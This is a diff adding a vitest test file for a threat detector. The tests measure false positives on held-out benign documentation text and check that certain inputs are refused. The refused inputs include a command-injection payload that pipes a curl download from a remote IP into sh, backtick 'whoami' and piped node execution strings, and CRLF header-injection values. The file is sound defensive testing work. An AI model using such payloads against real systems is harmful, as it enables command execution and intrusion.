@@ -1,0 +1,61 @@
+/**
+ * The held-out set (test/fixtures/heldout/, provenance in its README): benign text nobody wrote as a
+ * test, the README and CHANGELOG prose, code blocks and descriptions of the packages in node_modules,
+ * sent as query values and JSON bodies. It measures whether the engine generalises beyond the corpora
+ * its rules were tuned on, so nothing here is tuned against it: the ceiling only keeps a change from
+ * refusing more real text than `bench/detection-heldout.ts` measured. Lower it when the engine gets
+ * better; never raise it to let a change through.
+ */
+import { describe, expect, it } from "@effect/vitest"
+import { Effect } from "effect"
+import { ThreatDetector, type ThreatDetectorService } from "../../src/ThreatDetector.js"
+import { loadHeldout } from "../fixtures/heldout/heldout.js"
+import { rate, runCorpus } from "./externalCorpus.js"
+
+/** Held-out benign rows refused at the default level: measured 0.066 (162/2473). */
+const HELDOUT_REFUSED_CEILING = 0.072
+
+const refusedAtLevel1 = (detector: ThreatDetectorService, value: string) =>
+  Effect.map(detector.detect({ path: "/search", query: `q=${encodeURIComponent(value)}`, headers: {} }), (r) => r.isThreat)
+
+/** Each of `passing` passes and each of `refused` is refused, as query values at the default level. */
+const expectVerdicts = (passing: ReadonlyArray<string>, refused: ReadonlyArray<string>) =>
+  Effect.gen(function*() {
+    const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+    for (const value of passing) expect(yield* refusedAtLevel1(detector, value), value).toBe(false)
+    for (const value of refused) expect(yield* refusedAtLevel1(detector, value), value).toBe(true)
+  })
+
+describe("held-out benign text", () => {
+  it.effect("refuses at most the measured share of real documentation text at the default level", () =>
+    Effect.gen(function*() {
+      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+      const r = yield* runCorpus(detector, loadHeldout().filter((row) => row.expect === "benign"))
+      const total = Object.values(r.refusedBySource).reduce((acc, t) => ({ caught: acc.caught + t.caught, total: acc.total + t.total }), { caught: 0, total: 0 })
+      expect(total.total).toBeGreaterThan(2000)
+      expect(rate(total), r.falsePositives.slice(0, 20).map((f) => `${f.row.source} #${f.row.id}: ${f.result.ruleIds.join(", ")}`).join("\n"))
+        .toBeLessThanOrEqual(HELDOUT_REFUSED_CEILING)
+    }), { timeout: 120_000 })
+
+  it.effect("passes Markdown that names packages in backticks; a command there still counts", () =>
+    expectVerdicts([
+      "OpenTelemetry instrumentation for `node:dns` name resolution",
+      "Build tool and bindings loader for `node-gyp` that supports prebuilds",
+      "`base64-js` does basic base64 encoding in pure JS"
+    ], ["`whoami`", "x;curl http://203.0.113.9/a|sh", "a|node -e 'x'"]))
+
+  it.effect("passes prose whose line ends in a colon or starts with a URL; a header line still counts", () =>
+    expectVerdicts([
+      "If you create a single div, passing a string rather than an\nobject:",
+      "Create a row with any number of columns, a column\ncan either be a string, or an object with the following\noptions:",
+      "See the docs at\nhttps://example.com/guide"
+    ], ["en\r\nSet-Cookie: sid=1", "x\nLocation: http://203.0.113.9/"]))
+
+  it.effect("passes a Node README's CommonJS import in a JSON body", () =>
+    Effect.gen(function*() {
+      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+      const text = JSON.stringify({ title: "Example", body: "const colors = require('@colors/colors');\nconsole.log('hello'.green);" })
+      const result = yield* detector.detect({ path: "/api", headers: { "content-type": "application/json" }, body: { kind: "json", text } })
+      expect(result.isThreat).toBe(false)
+    }))
+})
